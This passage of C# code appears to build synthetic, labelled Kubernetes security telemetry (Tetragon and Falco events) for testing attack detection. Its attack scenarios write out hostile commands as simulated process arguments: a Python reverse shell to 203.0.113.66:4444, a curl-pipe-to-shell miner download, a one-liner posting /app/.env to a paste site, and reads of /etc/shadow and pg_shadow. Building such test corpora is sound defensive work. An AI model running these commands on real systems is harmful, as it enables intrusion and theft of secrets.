        var dump = Spawn(pod, "/usr/lib/postgresql/16/bin/pg_dump", "-h postgres.data.svc.cluster.local -U backup shop", t.AddMilliseconds(20), shell, 1000, "/backup");
        var gzip = Spawn(pod, "/bin/gzip", "", t.AddMilliseconds(21), shell, 1000, "/backup");
        Emit(t.AddMilliseconds(20), "tetragon", Exec(dump, pod.Node.Name, t.AddMilliseconds(20)));
        Emit(t.AddMilliseconds(21), "tetragon", Exec(gzip, pod.Node.Name, t.AddMilliseconds(21)));
        Resolve(pod, dump, "postgres.data.svc.cluster.local", [W("postgres").ServiceIp!], t.AddMilliseconds(25));
        Call(pod, dump, W("postgres"), t.AddMilliseconds(30), 600, 0, 1);
        var pg = W("postgres").Running.First();
        for (var i = 0; i < 20 * scale; i++)
        {
            var at = t.AddMilliseconds(40 + (i * 150));
            Emit(at, "tetragon", Kprobe(pg.Main, pg.Node.Name, at, "tcp_sendmsg", "network-observability", SockArgs(new Sock("tcp", pg.Ip, 5432, pod.Ip, 40000 + minute, "TCP_ESTABLISHED"), 65_536)));
        }

        var written = t.AddSeconds(4 * scale);
        Emit(written, "tetragon", Kprobe(gzip, pod.Node.Name, written, "security_file_permission", "file-monitoring", FileArgs($"/backup/shop-{t:yyyyMMddHHmm}.sql.gz", true)));
        Emit(written.AddMilliseconds(5), "tetragon", SensorJson.Exit(dump, pod.Node.Name, written.AddMilliseconds(5)));
        Emit(written.AddMilliseconds(6), "tetragon", SensorJson.Exit(gzip, pod.Node.Name, written.AddMilliseconds(6)));
        var aws = Spawn(pod, "/usr/local/bin/python3.12", "/usr/local/bin/aws s3 cp /backup/shop.sql.gz s3://acme-backups/shop/", written.AddMilliseconds(10), shell, 1000, "/backup");
        Emit(aws.Start, "tetragon", Exec(aws, pod.Node.Name, aws.Start));
        Emit(aws.Start.AddMilliseconds(30), "tetragon", Kprobe(aws, pod.Node.Name, aws.Start.AddMilliseconds(30), "security_file_permission", "file-monitoring", FileArgs("/backup/.aws/credentials", false)));
        Resolve(pod, aws, "acme-backups.s3.eu-west-1.amazonaws.com", _s3.OrderBy(_ => _r.Next()).Take(2).ToList(), aws.Start.AddMilliseconds(40));
        External(pod, aws, _s3[_r.Next(_s3.Length)], 443, aws.Start.AddMilliseconds(50), 1_200_000L * scale, 2_000);
        var done = aws.Start.AddSeconds(3 + (2 * scale));
        Emit(done, "tetragon", SensorJson.Exit(aws, pod.Node.Name, done));
        Emit(done.AddMilliseconds(5), "tetragon", SensorJson.Exit(shell, pod.Node.Name, done.AddMilliseconds(5)));
        pod.Alive = false;
        if (t >= LearningEnds)
        {
            _labels.Add(new CorpusLabel(scenario ?? $"cronjob-backup-{minute}", scenario is null ? "benign-churn" : "attack-stealthy", w.Id, [pod.Name], t, done, scenario is null ? "scheduled backup run (a new short-lived pod)" : "the backup job copies 20 times its usual volume to its usual bucket")
            {
                Related = [W("postgres").Id],
            });
        }
    }

    // ---------------------------------------------------------------- churn

    private void Churn(int s, DateTimeOffset t)
    {
        switch (s)
        {
            case 35 * 60:
                _paygate = ["203.0.113.80", "203.0.113.81"];
                _labels.Add(new CorpusLabel("dns-rotation-paygate-1", "benign-churn", W("api").Id, [], t, t.AddMinutes(10), "api.paygate.example moves to addresses in another network"));
                break;
            case 40 * 60:
                RollOut(W("frontend"), t);
                break;
            case 45 * 60:
                var hpa = NewPod(W("api"), t, 2);
                Emit(t, "tetragon", Exec(hpa.Processes[0], hpa.Node.Name, t));
                _labels.Add(new CorpusLabel("hpa-api-scale-up", "benign-churn", W("api").Id, [hpa.Name], t, t.AddMinutes(5), "the HPA adds a third api pod (new pod IP)"));
                break;
            case 50 * 60:
                Restart(W("worker").Running.First(), t);
                break;
            case 52 * 60:
                ReplacePod(W("coredns"), t);
                break;
            case 55 * 60:
                _paygate = ["198.51.100.140", "203.0.113.81"];
                _labels.Add(new CorpusLabel("dns-rotation-paygate-2", "benign-churn", W("api").Id, [], t, t.AddMinutes(10), "api.paygate.example rotates again"));
                break;
            case 72 * 60 + 30:
                ReplacePod(W("redis"), t, keepName: true);
                break;
        }
    }

    /// <summary>A rolling update: a new image digest, new pods one by one (entrypoint script first), old pods gone.</summary>
    private void RollOut(CorpusWorkload w, DateTimeOffset t)
    {
        w.Image = "docker.io/library/nginx:1.27.3";
        w.Digest = Digest();
        var old = w.Running.ToList();
        var pods = new List<string>();
        for (var i = 0; i < old.Count; i++)
        {
            var at = t.AddSeconds(i * 40);
            var pod = NewPod(w, at, i);
            pods.Add(pod.Name);
            Entrypoint(pod, at);
            old[i].Alive = false;
            foreach (var p in old[i].Processes)
            {
                Emit(at.AddSeconds(2), "tetragon", SensorJson.Exit(p, old[i].Node.Name, at.AddSeconds(2), 0));
            }
        }

        _labels.Add(new CorpusLabel("rollout-frontend", "benign-churn", w.Id, pods, t, t.AddMinutes(15), "rolling update of the frontend to a new image digest (nginx 1.27.3)"));
    }

    /// <summary>nginx's image entrypoint: /docker-entrypoint.sh runs its configuration scripts, then execs nginx.</summary>
    private void Entrypoint(CorpusPod pod, DateTimeOffset at)
    {
        var master = pod.Processes[0];
        var script = new Proc { Pid = master.Pid, ContainerPid = 1, Binary = "/docker-entrypoint.sh", Args = "nginx -g daemon off;", Start = at, ExecId = ExecId(pod.Node.Name, at, master.Pid), Parent = pod.Node.Shim, Pod = pod, Uid = 0 };
        Emit(at, "tetragon", Exec(script, pod.Node.Name, at));
        var step = 0;
        foreach (var (bin, args) in new[] { ("/usr/bin/find", "/docker-entrypoint.d/ -mindepth 1 -maxdepth 1 -type f -print -quit"), ("/bin/sed", "-i -E s,listen       80;,listen       8080;, /etc/nginx/conf.d/default.conf"), ("/usr/bin/envsubst", "$NGINX_HOST $NGINX_PORT"), ("/bin/sed", "-i s/worker_processes auto/worker_processes 2/ /etc/nginx/nginx.conf") })
        {
            var p = Spawn(pod, bin, args, at.AddMilliseconds(10 + (step * 15)), script, 0);
            Emit(p.Start, "tetragon", Exec(p, pod.Node.Name, p.Start));
            Emit(p.Start.AddMilliseconds(3), "tetragon", SensorJson.Exit(p, pod.Node.Name, p.Start.AddMilliseconds(3)));
            step++;
        }

        Emit(at.AddMilliseconds(90), "tetragon", Kprobe(script, pod.Node.Name, at.AddMilliseconds(90), "security_file_permission", "file-monitoring", FileArgs("/etc/nginx/conf.d/default.conf", true)));
        var nginx = new Proc { Pid = master.Pid, ContainerPid = 1, Binary = master.Binary, Args = master.Args, Start = at.AddMilliseconds(100), ExecId = master.ExecId, Parent = pod.Node.Shim, Pod = pod, Uid = 0 };
        Emit(nginx.Start, "tetragon", Exec(nginx, pod.Node.Name, nginx.Start));
    }

    /// <summary>The container restarts in place (same pod and IP, new container id): its entrypoint starts again.</summary>
    private void Restart(CorpusPod pod, DateTimeOffset t)
    {
        foreach (var p in pod.Processes)
        {
            Emit(t, "tetragon", SensorJson.Exit(p, pod.Node.Name, t, 137));
        }

        pod.ContainerId = "containerd://" + Hex(32);
        pod.ContainerStart = t.AddSeconds(10);
        StartProcesses(pod, t.AddSeconds(10));
        Emit(t.AddSeconds(10), "tetragon", Exec(pod.Processes[0], pod.Node.Name, t.AddSeconds(10)));
        _labels.Add(new CorpusLabel("restart-" + pod.Workload.Name, "benign-churn", pod.Workload.Id, [pod.Name], t, t.AddMinutes(5), "the container was OOM-killed and restarted"));
    }

    /// <summary>A pod deleted and recreated (new pod IP; a StatefulSet keeps its name).</summary>
    private void ReplacePod(CorpusWorkload w, DateTimeOffset t, bool keepName = false)
    {
        var old = w.Running.First();
        old.Alive = false;
        foreach (var p in old.Processes)
        {
            Emit(t, "tetragon", SensorJson.Exit(p, old.Node.Name, t, 0));
        }

        var pod = NewPod(w, t.AddSeconds(8), keepName ? 0 : 9);
        Emit(t.AddSeconds(8), "tetragon", Exec(pod.Processes[0], pod.Node.Name, t.AddSeconds(8)));
        _labels.Add(new CorpusLabel("replace-" + w.Name, "benign-churn", w.Id, [pod.Name], t, t.AddMinutes(5), "pod deleted and recreated on another node with a new IP"));
    }

    // ---------------------------------------------------------------- attacks

    private void Label(string scenario, bool stealthy, CorpusWorkload w, CorpusPod pod, DateTimeOffset start, DateTimeOffset end, string description) =>
        _labels.Add(new CorpusLabel(scenario, stealthy ? "attack-stealthy" : "attack-new", w.Id, [pod.Name], start, end, description));

    private void Attacks(int s, DateTimeOffset t)
    {
        // Two attacks do not wait for the attack window: one while the workloads still learn, one two minutes into
        // a rolling update (an attacker need not wait for learning, nor for the deploy to settle).
        if (s == 15 * 60)
        {
            WebShellWhileLearning(t);
        }
        else if (s == 42 * 60)
        {
            PrivescAfterRollout(t);
        }

        switch (s - (NormalMinutes * 60))
        {
            case 2 * 60: ReverseShell(t); break;
            case 4 * 60: PortSweep(t); break;
            case 6 * 60: ExecIntoDatabase(t); break;
            case 8 * 60: HelperBurst(t); break;
            case 10 * 60: TokenTheft(t); break;
            case 12 * 60: Miner(t); break;
            case 14 * 60: BulkToKnownPeer(t); break;
            case 16 * 60: RedisModule(t); break;
            case 18 * 60: SlowBruteForce(t); break;
            case 20 * 60: BackupRun(t, 80, 20, "bulk-copy-by-backup"); break;
            case 23 * 60: AdminSession(t); break;
            case 25 * 60: ExfilWithBuiltins(t); break;
            case 27 * 60: DnsTunnel(t); break;
        }
    }

    private void WebShellWhileLearning(DateTimeOffset t)
    {
        var pod = W("frontend").Running.First();
        var nginx = pod.Processes[1];
        var sh = Spawn(pod, "/bin/sh", "-c id; cat /etc/shadow", t, nginx, 101, "/");
        Emit(t, "tetragon", Exec(sh, pod.Node.Name, t));
        var id = Spawn(pod, "/usr/bin/id", "", t.AddMilliseconds(5), sh, 101);
        Emit(id.Start, "tetragon", Exec(id, pod.Node.Name, id.Start));
        var cat = Spawn(pod, "/bin/cat", "/etc/shadow", t.AddMilliseconds(20), sh, 101);
        Emit(cat.Start, "tetragon", Exec(cat, pod.Node.Name, cat.Start));
        Emit(cat.Start.AddMilliseconds(2), "tetragon", Kprobe(cat, pod.Node.Name, cat.Start.AddMilliseconds(2), "security_file_permission", "file-monitoring", FileArgs("/etc/shadow", false)));
        Label("webshell-while-learning-frontend", false, W("frontend"), pod, t, cat.Start.AddSeconds(1), "a vulnerable Lua module gives a shell under nginx 15 minutes after the workload appeared, while it still learns");
    }

    private void PrivescAfterRollout(DateTimeOffset t)
    {
        var pod = W("frontend").Running.First();
        var nginx = pod.Processes[1];
        Emit(t, "tetragon", Kprobe(nginx, pod.Node.Name, t, "security_file_permission", "file-monitoring", FileArgs("/tmp/.p", true)));
        var sh = Spawn(pod, "/bin/sh", "-c chmod +x /tmp/.p && /tmp/.p", t.AddSeconds(1), nginx, 101, "/");
        Emit(sh.Start, "tetragon", Exec(sh, pod.Node.Name, sh.Start));
        var esc = Spawn(pod, "/tmp/.p", "", sh.Start.AddMilliseconds(8), sh, 101, "/tmp");
        Emit(esc.Start, "tetragon", Exec(esc, pod.Node.Name, esc.Start));
        Emit(esc.Start.AddMilliseconds(3), "tetragon", Kprobe(esc, pod.Node.Name, esc.Start.AddMilliseconds(3), "commit_creds", "privileges-raise", IntArgs(0)));
        Label("privesc-after-rollout-frontend", false, W("frontend"), pod, t, esc.Start.AddSeconds(1), "two minutes into the frontend's rolling update, an exploit dropped in /tmp raises its privileges in a new pod");
    }

    private void ReverseShell(DateTimeOffset t)
    {
        var pod = W("api").Running.First();
        var worker = pod.Processes[2];
        var sh = Spawn(pod, "/bin/sh", "-c python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.66\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'", t, worker, 1000, "/app");
        Emit(t, "tetragon", Exec(sh, pod.Node.Name, t));
        var py = Spawn(pod, "/usr/local/bin/python3.11", "-c import socket,os,pty;...", t.AddMilliseconds(5), sh, 1000, "/app");
        Emit(py.Start, "tetragon", Exec(py, pod.Node.Name, py.Start));
        var conn = new Sock("tcp", pod.Ip, pod.EphemeralPort(), "203.0.113.66", 4444, "TCP_SYN_SENT");
        Emit(py.Start.AddMilliseconds(10), "tetragon", Kprobe(py, pod.Node.Name, py.Start.AddMilliseconds(10), "tcp_connect", "network-observability", SockArgs(conn)));
        var inner = Spawn(pod, "/bin/sh", "", py.Start.AddMilliseconds(20), py, 1000, "/app");
        Emit(inner.Start, "tetragon", Exec(inner, pod.Node.Name, inner.Start));
        var at = inner.Start.AddSeconds(3);
        foreach (var (bin, args) in new[] { ("/usr/bin/id", ""), ("/bin/cat", "/etc/passwd"), ("/bin/ls", "-la /app"), ("/usr/bin/env", "") })
        {
            var p = Spawn(pod, bin, args, at, inner, 1000, "/app");
            Emit(at, "tetragon", Exec(p, pod.Node.Name, at));
            at = at.AddSeconds(2);
        }

        Emit(at, "tetragon", Kprobe(conn.Saddr == pod.Ip ? py : py, pod.Node.Name, at, "tcp_sendmsg", "network-observability", SockArgs(conn with { State = "TCP_ESTABLISHED" }, 4200)));
        Label("reverse-shell-api", false, W("api"), pod, t, at, "RCE in the api: a shell from gunicorn, Python reverse shell to 203.0.113.66:4444, recon commands");
    }

    private void PortSweep(DateTimeOffset t)
    {
        var pod = W("worker").Running.First();
        var java = pod.Main;
        var end = t;
        var targets = new[] { "10.244.0.", "10.244.1.", "10.244.2." };
        var n = 0;
        foreach (var prefix in targets)
        {
            foreach (var port in new[] { 22, 80, 443, 2379, 3306, 5432, 6379, 8080, 9200, 10250, 27017 })
            {
                for (var host = 10; host < 14; host++)
                {
                    var at = t.AddMilliseconds(n++ * 250);
                    Emit(at, "tetragon", Kprobe(java, pod.Node.Name, at, "tcp_connect", "network-observability", SockArgs(new Sock("tcp", pod.Ip, pod.EphemeralPort(), prefix + host, port, "TCP_SYN_SENT"))));
                    end = at;
                }
            }
        }

        Label("port-sweep-worker", true, W("worker"), pod, t, end, "the worker's JVM (a deserialization RCE) sweeps the pod network for common service ports");
    }

    private void ExecIntoDatabase(DateTimeOffset t)
    {
        var pod = W("postgres").Running.First();
        var runc = new Proc { Pid = pod.Node.NextHostPid++, Binary = "/usr/bin/runc", Args = "exec --process /tmp/runc-process", Start = t, ExecId = ExecId(pod.Node.Name, t, 4242) };
        var bash = new Proc { Pid = pod.Node.NextHostPid++, ContainerPid = pod.NextContainerPid++, Binary = "/bin/bash", Args = "", Start = t, ExecId = ExecId(pod.Node.Name, t, 4243), Parent = runc, Pod = pod, Uid = 0, Cwd = "/" };
        Emit(t, "tetragon", Exec(bash, pod.Node.Name, t));
        Emit(t.AddMilliseconds(20), "falco", Falco("Terminal shell in container", "Notice", "A shell was spawned in a container with an attached terminal", t.AddMilliseconds(20), pod.Node.Name, FalcoFields(pod, bash, null, null, "execve"), "container", "shell", "mitre_execution"));
        var at = t.AddSeconds(8);
        foreach (var (bin, args) in new[] { ("/usr/bin/id", ""), ("/bin/cat", "/etc/shadow"), ("/usr/lib/postgresql/16/bin/psql", "-U postgres -c select usename, passwd from pg_shadow") })
        {
            var p = Spawn(pod, bin, args, at, bash, 0);
            Emit(at, "tetragon", Exec(p, pod.Node.Name, at));
            if (args.Contains("/etc/shadow", StringComparison.Ordinal))
            {
                Emit(at.AddMilliseconds(2), "tetragon", Kprobe(p, pod.Node.Name, at.AddMilliseconds(2), "security_file_permission", "file-monitoring", FileArgs("/etc/shadow", false)));
            }

            at = at.AddSeconds(5);
        }

        Label("kubectl-exec-root-shell-postgres", false, W("postgres"), pod, t, at, "an operator's stolen kubeconfig: kubectl exec into postgres-0, a root shell reading /etc/shadow and pg_shadow");
    }

    private void HelperBurst(DateTimeOffset t)
    {
        var pod = W("api").Running.Last();
        var end = t;
        for (var i = 0; i < 240; i++)
        {
            end = t.AddMilliseconds(i * 500);
            Helper(pod, pod.Processes[1 + (i % 3)], end);
        }

        Label("helper-burst-api", true, W("api"), pod, t, end, "a known helper (pdftotext) run 240 times in two minutes: abuse of the invoice endpoint to exhaust the node");
    }

    private void TokenTheft(DateTimeOffset t)
    {
        var pod = W("frontend").Running.First();
        var nginx = pod.Processes[1];
        Emit(t, "tetragon", Kprobe(nginx, pod.Node.Name, t, "security_file_permission", "file-monitoring", FileArgs("/var/run/secrets/kubernetes.io/serviceaccount/token", false)));
        External(pod, nginx, "10.96.0.1", 443, t.AddSeconds(2), 900, 30_000);
        Label("token-theft-frontend", false, W("frontend"), pod, t, t.AddSeconds(3), "path traversal in a Lua module: the service-account token is read and used against the API server");
    }

    private void Miner(DateTimeOffset t)
    {
        var pod = W("worker").Running.First();
        var java = pod.Main;
        var sh = Spawn(pod, "/bin/sh", "-c curl -s http://198.51.100.99/k.sh | sh", t, java, 1000, "/opt/worker");
        Emit(t, "tetragon", Exec(sh, pod.Node.Name, t));
        var curl = Spawn(pod, "/usr/bin/curl", "-s http://198.51.100.99/k.sh", t.AddMilliseconds(10), sh, 1000);
        Emit(curl.Start, "tetragon", Exec(curl, pod.Node.Name, curl.Start));
        External(pod, curl, "198.51.100.99", 80, curl.Start.AddMilliseconds(5), 200, 4_800_000);
        var drop = curl.Start.AddSeconds(3);
        Emit(drop, "tetragon", Kprobe(sh, pod.Node.Name, drop, "security_file_permission", "file-monitoring", FileArgs("/tmp/.x/kdevtmpfsi", true)));
        var miner = Spawn(pod, "/tmp/.x/kdevtmpfsi", "", drop.AddSeconds(1), sh, 1000, "/tmp/.x");
        Emit(miner.Start, "tetragon", Exec(miner, pod.Node.Name, miner.Start));
        External(pod, miner, "45.9.148.117", 3333, miner.Start.AddSeconds(1), 3_000, 9_000);
        Label("cryptominer-worker", false, W("worker"), pod, t, miner.Start.AddSeconds(2), "the worker downloads and runs a miner from /tmp, which connects to a pool on 3333");
    }

    private void BulkToKnownPeer(DateTimeOffset t)
    {
        var pod = W("api").Running.First();
        var worker = pod.Processes[1];
        var end = t;
        for (var i = 0; i < 12; i++)
        {
            end = t.AddSeconds(i * 10);
            Resolve(pod, worker, "api.paygate.example", _paygate, end);
            External(pod, worker, _paygate[i % _paygate.Length], 443, end.AddMilliseconds(2), 4_000_000, 2_000);
        }

        Label("bulk-exfil-known-peer-api", true, W("api"), pod, t, end.AddSeconds(2), "48 MB sent to the usual payment provider (a compromised webhook target) in two minutes");
    }

    private void RedisModule(DateTimeOffset t)
    {
        var pod = W("redis").Running.First();
        var redis = pod.Main;
        Emit(t, "tetragon", Kprobe(redis, pod.Node.Name, t, "security_file_permission", "file-monitoring", FileArgs("/tmp/exp.so", true)));
        Emit(t.AddSeconds(1), "tetragon", Kprobe(redis, pod.Node.Name, t.AddSeconds(1), "security_file_permission", "file-monitoring", FileArgs("/tmp/exp.so", false)));
        var sh = Spawn(pod, "/bin/sh", "-c /tmp/.r", t.AddSeconds(2), redis, 999, "/data");
        Emit(sh.Start, "tetragon", Exec(sh, pod.Node.Name, sh.Start));
        var esc = Spawn(pod, "/tmp/.r", "", sh.Start.AddMilliseconds(5), sh, 999, "/data");
        Emit(esc.Start, "tetragon", Exec(esc, pod.Node.Name, esc.Start));
        Emit(esc.Start.AddMilliseconds(3), "tetragon", Kprobe(esc, pod.Node.Name, esc.Start.AddMilliseconds(3), "__x64_sys_setuid", "privileges-raise", IntArgs(0)));
        Emit(esc.Start.AddMilliseconds(4), "tetragon", Kprobe(esc, pod.Node.Name, esc.Start.AddMilliseconds(4), "commit_creds", "privileges-raise", IntArgs(0)));
        Label("redis-module-privesc", false, W("redis"), pod, t, esc.Start.AddSeconds(1), "an exposed Redis loads a malicious module from /tmp; it spawns a shell that raises its privileges");
    }

    private void SlowBruteForce(DateTimeOffset t)
    {
        var pod = W("worker").Running.First();
        var java = pod.Main;
        var end = t;
        for (var i = 0; i < 40; i++)
        {
            end = t.AddSeconds(i * 3);
            var conn = new Sock("tcp", pod.Ip, pod.EphemeralPort(), W("postgres").ServiceIp!, 5432, "TCP_SYN_SENT");
            Emit(end, "tetragon", Kprobe(java, pod.Node.Name, end, "tcp_connect", "network-observability", SockArgs(conn)));
            var pg = W("postgres").Running.First();
            var accepted = new Sock("tcp", pg.Ip, 5432, pod.Ip, conn.Sport, "TCP_ESTABLISHED");
            Emit(end.AddMilliseconds(1), "tetragon", Kprobe(pg.Main, pg.Node.Name, end.AddMilliseconds(1), "inet_csk_accept", "network-observability", SockArgs(new Sock("tcp", "0.0.0.0", 5432, "0.0.0.0", 0, "TCP_LISTEN")), accepted));
            Emit(end.AddMilliseconds(3), "tetragon", Kprobe(pg.Main, pg.Node.Name, end.AddMilliseconds(3), "tcp_sendmsg", "network-observability", SockArgs(accepted, 96)));
            Emit(end.AddMilliseconds(4), "tetragon", Kprobe(java, pod.Node.Name, end.AddMilliseconds(4), "tcp_close", "network-observability", SockArgs(conn with { State = "TCP_ESTABLISHED" })));
        }

        Label("slow-bruteforce-postgres", true, W("worker"), pod, t, end, "password guessing against PostgreSQL from the worker: a new connection every 3 s, each refused");
    }

    private void AdminSession(DateTimeOffset t)
    {
        var pg = W("postgres").Running.First();
        var api = W("api").Running.First();
        var conn = new Sock("tcp", pg.Ip, 5432, api.Ip, api.EphemeralPort(), "TCP_ESTABLISHED");
        Emit(t, "tetragon", Kprobe(pg.Main, pg.Node.Name, t, "inet_csk_accept", "network-observability", SockArgs(new Sock("tcp", "0.0.0.0", 5432, "0.0.0.0", 0, "TCP_LISTEN")), conn));
        var end = t;
        for (var i = 0; i < 400; i++)
        {
            end = t.AddMilliseconds(50 + (i * 150));
            Emit(end, "tetragon", Kprobe(pg.Main, pg.Node.Name, end, "tcp_sendmsg", "network-observability", SockArgs(conn, 65_536)));
            if (i % 10 == 0)
            {
                Emit(end, "tetragon", Kprobe(pg.Main, pg.Node.Name, end, "security_file_permission", "file-monitoring", FileArgs($"/var/lib/postgresql/data/base/16384/{16_400 + _r.Next(300)}", false)));
            }
        }

        Label("admin-session-postgres", true, W("postgres"), pg, t, end, "an interactive session through the api's credentials dumps 26 MB of customer data at a quiet hour");
    }

    private void ExfilWithBuiltins(DateTimeOffset t)
    {
        var pod = W("api").Running.Last();
        var worker = pod.Processes[3];
        var py = Spawn(pod, "/usr/local/bin/python3.11", "-c import urllib.request;urllib.request.urlopen('https://paste.drop.example/up', data=open('/app/.env','rb').read())", t, worker, 1000, "/app");
        Emit(t, "tetragon", Exec(py, pod.Node.Name, t));
        Emit(t.AddMilliseconds(5), "tetragon", Kprobe(py, pod.Node.Name, t.AddMilliseconds(5), "security_file_permission", "file-monitoring", FileArgs("/app/.env", false)));
        Resolve(pod, py, "paste.drop.example", ["185.199.110.153"], t.AddMilliseconds(10));
        External(pod, py, "185.199.110.153", 443, t.AddMilliseconds(20), 90_000, 1_000);
        Label("exfil-builtin-python-api", false, W("api"), pod, t, t.AddSeconds(2), "the application's secrets posted to a paste site with the interpreter the image already has");
    }

    private void DnsTunnel(DateTimeOffset t)
    {
        var pod = W("worker").Running.First();
        var java = pod.Main;
        var end = t;
        for (var i = 0; i < 60; i++)
        {
            end = t.AddMilliseconds(i * 900);
            Resolve(pod, java, $"{Token(24)}.{Token(16)}.t.exfil-dns.example", ["192.0.2.1"], end);
        }

        Label("dns-tunnel-worker", false, W("worker"), pod, t, end, "data leaves through DNS queries to an attacker's zone, one random label after another");
    }

    public static string Describe(IReadOnlyList<CorpusLabel> labels)
    {
        var sb = new StringBuilder();
        foreach (var l in labels)
        {
            sb.AppendLine(CultureInfo.InvariantCulture, $"{l.Start:HH:mm:ss}-{l.End:HH:mm:ss} {l.Kind,-16} {l.Scenario,-34} {l.Workload}");
        }

        return sb.ToString();
    }
}
